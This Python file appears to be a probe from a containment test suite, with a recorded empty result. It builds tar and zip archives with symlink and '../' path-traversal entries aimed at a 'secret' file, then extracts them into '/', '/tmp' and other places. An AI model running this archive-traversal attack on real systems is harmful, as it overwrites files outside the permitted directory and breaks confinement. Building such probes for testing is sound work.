"""Unpacks archives whose entries lead upwards and through links.

Ends: RETURNED []
"""

import io
import os
import shutil
import tarfile
import zipfile


def attack(facts):
    done = []
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, facts["folder"]
        archive.addfile(link)
        for name in ("link/secret.txt", "../../../../" + facts["secret"], facts["secret"]):
            entry = tarfile.TarInfo(name)
            entry.size = 1
            archive.addfile(entry, io.BytesIO(b"x"))
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("../../../../" + facts["secret"], "x")
    for place in ("/", "/tmp", ".", facts["folder"]):
        for unpack in (
            lambda place: tarfile.open(fileobj=io.BytesIO(packed.getvalue())).extractall(place),
            lambda place: zipfile.ZipFile(zipped).extractall(place),
            lambda place: shutil.unpack_archive("/usr/share/attack.zip", place),
        ):
            try:
                unpack(place)
                done.append(place)
            except (OSError, shutil.ReadError, ValueError, tarfile.TarError):
                continue
    return done if os.getcwd() == "/" else ["elsewhere"]
